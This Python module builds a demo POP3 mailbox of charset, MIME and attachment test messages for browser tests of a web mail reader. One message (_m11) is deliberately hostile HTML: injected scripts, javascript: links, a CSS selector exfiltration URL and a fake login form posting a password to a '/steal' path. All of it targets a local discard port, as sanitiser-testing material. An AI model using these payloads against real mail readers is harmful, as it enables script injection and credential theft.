"""The demo mailbox: mail a reader meets in practice, in POP3 message-number order.

Browser tests look for these Subjects (decoded) in the message list:

| #  | Subject (decoded)                                        | what it exercises |
|----|----------------------------------------------------------|-------------------|
| 1  | Demo 01: Welcome to pop3ws                               | English, UTF-8 quoted-printable, emoji |
| 2  | 演示 02：你好，世界（UTF-8 邮件）                          | Simplified Chinese UTF-8; B encoded word split inside a character; base64 body |
| 3  | 演示 03：GBK 编码的会议通知                                | GBK; B encoded word split between the two bytes of a character; GBK From name; 8-bit GBK body |
| 4  | 演示 04：标签写 gb2312，内容含 GBK 字：喆 堃               | charset label gb2312 on GBK-only characters (decode as GBK) |
| 5  | 演示 05：未声明字符集的 GBK 标题                           | raw 8-bit GBK Subject, no encoded word, no charset anywhere |
| 6  | 示範 06：繁體中文 Big5 郵件                                | Big5 header and body |
| 7  | デモ 07：日本語のメール（ISO-2022-JP）                       | ISO-2022-JP header and 7-bit body |
| 8  | Demo 08: Café crème brûlée (ISO-8859-1)                  | ISO-8859-1, Q encoded word, quoted-printable body |
| 9  | Demo 09: “Smart quotes” – €uro (Windows-1252)            | Windows-1252 bytes 0x80-0x9F |
| 10 | Demo 10: Monthly newsletter with remote images           | multipart/alternative; HTML with remote images at http://127.0.0.1:9/ |
| 11 | Demo 11: Hostile HTML (must be sanitised)                | script, onerror=, javascript: links, CSS url()/@import, form, meta refresh, base href, SVG script, iframe |
| 12 | Demo 12: Report with PDF and text attachments            | multipart/mixed with application/pdf and text/plain attachments |
| 13 | Demo 13: Inline image via cid:                           | multipart/related, HTML showing a cid: PNG |
| 14 | Demo 14: 10 MB holiday photos                            | a 10 MiB message (base64 attachment) |

Every remote URL points at 127.0.0.1 port 9 (discard): nothing answers, so a
test can tell whether a reader tried to load it without leaking anywhere.
Active content in message 11 only sets `window.pop3wsPwned` / the document
title to "PWNED" so browser tests can check that none of it ran.
"""

import base64
import email.quoprimime
import email.utils
import random
import struct
import zlib

CRLF = b"\r\n"
_EPOCH = 1748779200  # 2025-06-01T12:00:00Z

SUBJECTS = (
    "Demo 01: Welcome to pop3ws",
    "演示 02：你好，世界（UTF-8 邮件）",
    "演示 03：GBK 编码的会议通知",
    "演示 04：标签写 gb2312，内容含 GBK 字：喆 堃",
    "演示 05：未声明字符集的 GBK 标题",
    "示範 06：繁體中文 Big5 郵件",
    "デモ 07：日本語のメール（ISO-2022-JP）",
    "Demo 08: Café crème brûlée (ISO-8859-1)",
    "Demo 09: “Smart quotes” – €uro (Windows-1252)",
    "Demo 10: Monthly newsletter with remote images",
    "Demo 11: Hostile HTML (must be sanitised)",
    "Demo 12: Report with PDF and text attachments",
    "Demo 13: Inline image via cid:",
    "Demo 14: 10 MB holiday photos",
)

REMOTE = "http://127.0.0.1:9"


# ---- building blocks ----------------------------------------------------------------------

def _ew_b(charset, data):
    """One RFC 2047 B encoded word."""
    return b"=?" + charset.encode() + b"?B?" + base64.b64encode(data) + b"?="


def _words(charset, codec, text, encode=None):
    """`text` as adjacent encoded words of at most 75 characters (RFC 2047 section 2).

    Words break between characters, and each is encoded on its own, so
    stateful charsets such as ISO-2022-JP return to ASCII within each word.
    """
    encode = encode or _ew_b
    words, chunk = [], ""
    for ch in text:
        if chunk and len(encode(charset, (chunk + ch).encode(codec))) > 75:
            words.append(encode(charset, chunk.encode(codec)))
            chunk = ""
        chunk += ch
    words.append(encode(charset, chunk.encode(codec)))
    return (CRLF + b" ").join(words)


def _ew_b_split(charset, data, cut):
    """Two adjacent B encoded words with the byte string cut at `cut`.

    RFC 2047 section 5 forbids splitting a character across words, but real
    mailers do it; a reader must join adjacent words of one charset first.
    """
    return _ew_b(charset, data[:cut]) + CRLF + b" " + _ew_b(charset, data[cut:])


def _ew_q(charset, data):
    """One RFC 2047 Q encoded word (section 4.2)."""
    out = bytearray()
    for b in data:
        c = bytes([b])
        if c == b" ":
            out += b"_"
        elif c.isalnum() and b < 128:
            out += c
        else:
            out += b"=%02X" % b
    return b"=?" + charset.encode() + b"?Q?" + bytes(out) + b"?="


def _cut_inside_char(encoded, text, char, charset):
    """Index that falls after the first byte of `char` within `encoded`."""
    prefix = text[:text.index(char)].encode(charset)
    assert encoded.startswith(prefix)
    return len(prefix) + 1


def _date(i):
    return email.utils.formatdate(_EPOCH + i * 3600).replace("-0000", "+0000").encode()


def _head(i, from_, subject, extra, to=b"Alice <alice@pop3ws.test>"):
    fields = [(b"From", from_), (b"To", to), (b"Subject", subject), (b"Date", _date(i)),
              (b"Message-ID", b"<demo-%02d@pop3ws.test>" % i), (b"MIME-Version", b"1.0")]
    fields += list(extra)
    return b"".join(k + b": " + v + CRLF for k, v in fields) + CRLF


def _lines(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def _b64(data):
    return base64.encodebytes(data).replace(b"\n", CRLF)


def _qp(data):
    # quoprimime works on str holding one byte per character.
    return email.quoprimime.body_encode(data.decode("latin-1"), maxlinelen=76,
                                        eol="\r\n").encode("latin-1") + CRLF


def tiny_png(width=16, height=16):
    """A real PNG (RFC 2083): an RGB gradient, built with zlib and struct."""
    rows = b"".join(b"\x00" + b"".join(bytes((x * 16, y * 16, 160)) for x in range(width))
                    for y in range(height))

    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


def tiny_pdf(title="pop3ws demo report"):
    """A one-page PDF 1.4 with a correct cross-reference table."""
    stream = b"BT /F1 18 Tf 72 720 Td (" + title.encode("latin-1") + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# ---- the messages -------------------------------------------------------------------------

def _m01():
    body = _lines(
        "Hello Alice,\n\n"
        "Welcome to pop3ws, a mail reader that talks POP3 from your browser.\n"
        "This message is plain UTF-8 text with a few symbols: ✓ ★ ☕ and an emoji 📬.\n\n"
        "Lines longer than seventy-six characters are soft-wrapped by quoted-printable encoding, "
        "like this one, which goes on a little longer than usual to show it.\n\n"
        "-- \nThe pop3ws team\n").encode("utf-8")
    return _head(1, b"pop3ws team <team@pop3ws.test>", SUBJECTS[0].encode(), [
        (b"Content-Type", b"text/plain; charset=utf-8"),
        (b"Content-Transfer-Encoding", b"quoted-printable")]) + _qp(body)


def _m02():
    subject = SUBJECTS[1]
    raw = subject.encode("utf-8")
    cut = _cut_inside_char(raw, subject, "世", "utf-8")  # inside a 3-byte character
    body = _lines("王老师，您好！\n\n这是一封 UTF-8 编码的简体中文邮件，正文用 base64 传输。\n"
                  "祝好，\n李雷\n").encode("utf-8")
    return _head(2, _ew_b("UTF-8", "李雷".encode("utf-8")) + b" <li.lei@example.cn>",
                 _ew_b_split("UTF-8", raw, cut), [
                     (b"Content-Type", b"text/plain; charset=utf-8"),
                     (b"Content-Transfer-Encoding", b"base64")]) + _b64(body)


def _m03():
    subject = SUBJECTS[2]
    raw = subject.encode("gbk")
    cut = _cut_inside_char(raw, subject, "会", "gbk")  # between the two bytes of 会
    body = _lines("各位同事：\n\n下周一上午九点在三楼会议室开会，讨论第三季度预算。\n"
                  "请准时参加。\n\n张伟\n").encode("gbk")
    return _head(3, _ew_b("GBK", "张伟".encode("gbk")) + b" <zhang.wei@example.cn>",
                 _ew_b_split("GBK", raw, cut), [
                     (b"Content-Type", b"text/plain; charset=GBK"),
                     (b"Content-Transfer-Encoding", b"8bit")]) + body


def _m04():
    subject = SUBJECTS[3]
    body = _lines("这封邮件声明的字符集是 gb2312，但“喆”和“堃”只在 GBK 里有。\n"
                  "按 WHATWG 编码标准，gb2312 标签按 GBK 解码。\n").encode("gbk")
    return _head(4, b"Chen Zhe <chen.zhe@example.cn>", _words("gb2312", "gbk", subject), [
        (b"Content-Type", b"text/plain; charset=gb2312"),
        (b"Content-Transfer-Encoding", b"8bit")]) + body


def _m05():
    body = _lines("标题是未编码的 GBK 字节，邮件里没有任何字符集声明。\n"
                  "阅读器需要按用户的语言猜测，或让用户选择编码。\n").encode("gbk")
    return _head(5, b"Liu Yang <liu.yang@example.cn>", SUBJECTS[4].encode("gbk"), [
        (b"Content-Type", b"text/plain"),
        (b"Content-Transfer-Encoding", b"8bit")]) + body


def _m06():
    body = _lines("林小姐您好：\n\n這是一封以 Big5 編碼的繁體中文郵件。\n"
                  "下週三下午兩點在台北辦公室開會。\n\n陳大文 敬上\n").encode("big5")
    return _head(6, _ew_b("Big5", "陳大文".encode("big5")) + b" <chan.taiman@example.tw>",
                 _words("Big5", "big5", SUBJECTS[5]), [
                     (b"Content-Type", b"text/plain; charset=Big5"),
                     (b"Content-Transfer-Encoding", b"8bit")]) + body


def _m07():
    body = _lines("山田様\n\nいつもお世話になっております。\n"
                  "このメールは ISO-2022-JP で書かれています。\n\n佐藤\n").encode("iso2022_jp")
    return _head(7, _ew_b("ISO-2022-JP", "佐藤".encode("iso2022_jp")) + b" <sato@example.jp>",
                 _words("ISO-2022-JP", "iso2022_jp", SUBJECTS[6]), [
                     (b"Content-Type", b"text/plain; charset=ISO-2022-JP"),
                     (b"Content-Transfer-Encoding", b"7bit")]) + body + CRLF


def _m08():
    body = _lines("Chère Alice,\n\nLa crème brûlée était délicieuse ; à bientôt au café.\n"
                  "Prix : 12 £, soit environ 14 EUR (ISO-8859-1 n'a pas de signe euro).\n\n"
                  "Amitiés,\nRenée\n").encode("iso-8859-1")
    return _head(8, _ew_q("ISO-8859-1", "Renée Lefèvre".encode("latin-1")) + b" <renee@example.fr>",
                 _words("ISO-8859-1", "latin-1", SUBJECTS[7], _ew_q), [
                     (b"Content-Type", b"text/plain; charset=ISO-8859-1"),
                     (b"Content-Transfer-Encoding", b"quoted-printable")]) + _qp(body)


def _m09():
    body = _lines("Hi Alice,\n\nWord likes “curly quotes”, ‘single ones’, en dashes – "
                  "and em dashes —, the euro sign € and the ellipsis …\n"
                  "These are bytes 0x80-0x9F in Windows-1252, control codes in ISO-8859-1.\n\n"
                  "Cheers, Bob\n").encode("cp1252")
    return _head(9, b"Bob Office <bob@example.com>",
                 _words("windows-1252", "cp1252", SUBJECTS[8], _ew_q), [
                     (b"Content-Type", b"text/plain; charset=windows-1252"),
                     (b"Content-Transfer-Encoding", b"8bit")]) + body


def _m10():
    boundary = b"demo-news-boundary"
    text = _lines("The Monthly Harbour News\n\nThis month: the new ferry timetable, "
                  "the summer market and the lighthouse open day.\n"
                  "View the images in an HTML reader.\n").encode()
    html = _lines(f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Monthly Harbour News</title></head>
<body style="font-family: sans-serif">
<img src="{REMOTE}/newsletter/banner.jpg" width="600" height="120" alt="Harbour News banner">
<h1>The Monthly Harbour News</h1>
<p>This month: the new ferry timetable, the summer market and the lighthouse open day.</p>
<table><tr>
<td><img src="{REMOTE}/newsletter/ferry.jpg" width="180" alt="Ferry"></td>
<td><img src="{REMOTE}/newsletter/market.jpg" width="180" alt="Market"></td>
<td><img src="{REMOTE}/newsletter/lighthouse.jpg" width="180" alt="Lighthouse"></td>
</tr></table>
<p><a href="{REMOTE}/newsletter/read-more">Read more on our website</a></p>
<img src="{REMOTE}/track/open.gif?id=alice-0610" width="1" height="1" alt="">
</body></html>
""").encode()
    return (_head(10, b"Harbour News <news@example.org>", SUBJECTS[9].encode(), [
        (b"Content-Type", b'multipart/alternative; boundary="' + boundary + b'"'),
        (b"List-Unsubscribe", b"<" + REMOTE.encode() + b"/unsubscribe>")]) +
        b"--" + boundary + CRLF + b"Content-Type: text/plain; charset=us-ascii" + CRLF + CRLF +
        text + b"--" + boundary + CRLF + b"Content-Type: text/html; charset=utf-8" + CRLF + CRLF +
        html + b"--" + boundary + b"--" + CRLF)


def _m11():
    pwn = "window.pop3wsPwned=1;document.title='PWNED'"
    html = _lines(f"""<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url={REMOTE}/refresh">
<base href="{REMOTE}/base/">
<style>
@import url("{REMOTE}/css/import.css");
body {{ background: url("{REMOTE}/css/bg.png"); }}
input[value^="a"] {{ background-image: url("{REMOTE}/css/exfil?a"); }}
</style>
<link rel="stylesheet" href="{REMOTE}/css/linked.css">
<script>{pwn}</script>
</head>
<body onload="{pwn}">
<h1>Invoice overdue</h1>
<p>Please <a href="javascript:{pwn}">click here to pay</a>.</p>
<p><a href="relative/path">A relative link that base href would redirect</a></p>
<img src="x" onerror="{pwn}" alt="broken image">
<img src="{REMOTE}/pixel.gif" alt="tracking pixel">
<div style="background-image: url('{REMOTE}/css/inline-style.png')">styled div</div>
<form action="{REMOTE}/steal" method="post">
  <input type="text" name="user" value="alice">
  <input type="password" name="password">
  <button type="submit">Log in again</button>
</form>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>{pwn}</script>
  <a xlink:href="javascript:{pwn}"><rect width="10" height="10"/></a></svg>
<iframe src="{REMOTE}/frame" srcdoc="<script>parent.{pwn}</script>"></iframe>
<object data="{REMOTE}/object.swf"></object>
<embed src="{REMOTE}/embed.swf">
<a href="data:text/html,<script>{pwn}</script>">data: link</a>
<p>Plain text that should survive sanitising: HOSTILE-BODY-TEXT-OK.</p>
</body></html>
""").encode()
    return _head(11, b"Billing Department <billing@example.net>", SUBJECTS[10].encode(), [
        (b"Content-Type", b"text/html; charset=utf-8"),
        (b"Content-Transfer-Encoding", b"8bit")]) + html


def _m12():
    boundary = b"demo-report-boundary"
    text = _lines("Hi Alice,\n\nAttached are the quarterly report (PDF) and the raw figures (text).\n\n"
                  "Regards,\nCarol\n").encode()
    figures = _lines("quarter,revenue,costs\nQ1,1200,900\nQ2,1350,950\nQ3,1500,990\n").encode()
    return (_head(12, b"Carol Finance <carol@example.com>", SUBJECTS[11].encode(), [
        (b"Content-Type", b'multipart/mixed; boundary="' + boundary + b'"')]) +
        b"--" + boundary + CRLF + b"Content-Type: text/plain; charset=us-ascii" + CRLF + CRLF + text +
        b"--" + boundary + CRLF + b'Content-Type: application/pdf; name="report-q3.pdf"' + CRLF +
        b'Content-Disposition: attachment; filename="report-q3.pdf"' + CRLF +
        b"Content-Transfer-Encoding: base64" + CRLF + CRLF + _b64(tiny_pdf("Quarterly report Q3")) +
        b"--" + boundary + CRLF + b'Content-Type: text/plain; charset=us-ascii; name="figures.txt"' +
        CRLF + b'Content-Disposition: attachment; filename="figures.txt"' + CRLF + CRLF + figures +
        b"--" + boundary + b"--" + CRLF)


def _m13():
    boundary = b"demo-related-boundary"
    html = _lines("""<html><body>
<p>Our new logo, shown inline from the message itself:</p>
<p><img src="cid:logo@pop3ws.test" width="64" height="64" alt="pop3ws logo"></p>
<p>No remote content is needed for this image.</p>
</body></html>
""").encode()
    return (_head(13, b"Design Team <design@example.com>", SUBJECTS[12].encode(), [
        (b"Content-Type", b'multipart/related; type="text/html"; boundary="' + boundary + b'"')]) +
        b"--" + boundary + CRLF + b"Content-Type: text/html; charset=us-ascii" + CRLF + CRLF + html +
        b"--" + boundary + CRLF + b"Content-Type: image/png" + CRLF +
        b"Content-ID: <logo@pop3ws.test>" + CRLF +
        b'Content-Disposition: inline; filename="logo.png"' + CRLF +
        b"Content-Transfer-Encoding: base64" + CRLF + CRLF + _b64(tiny_png()) +
        b"--" + boundary + b"--" + CRLF)


def _m14():
    size = 10 * 1024 * 1024
    boundary = b"demo-big-boundary"
    rng = random.Random(14)
    head = (_head(14, b"Dave Traveller <dave@example.com>", SUBJECTS[13].encode(), [
        (b"Content-Type", b'multipart/mixed; boundary="' + boundary + b'"')]) +
        b"--" + boundary + CRLF + b"Content-Type: text/plain; charset=us-ascii" + CRLF + CRLF +
        b"Photos from the trip, all in one archive." + CRLF +
        b"--" + boundary + CRLF + b'Content-Type: application/zip; name="holiday-photos.zip"' + CRLF +
        b'Content-Disposition: attachment; filename="holiday-photos.zip"' + CRLF +
        b"Content-Transfer-Encoding: base64" + CRLF + CRLF)
    tail = b"--" + boundary + b"--" + CRLF
    lines = (size - len(head) - len(tail)) // 78
    return head + _b64(rng.randbytes(lines * 57)) + tail


def demo():
    """The demo mailbox (see the table in this module's docstring)."""
    return [_m01(), _m02(), _m03(), _m04(), _m05(), _m06(), _m07(), _m08(), _m09(), _m10(),
            _m11(), _m12(), _m13(), _m14()]
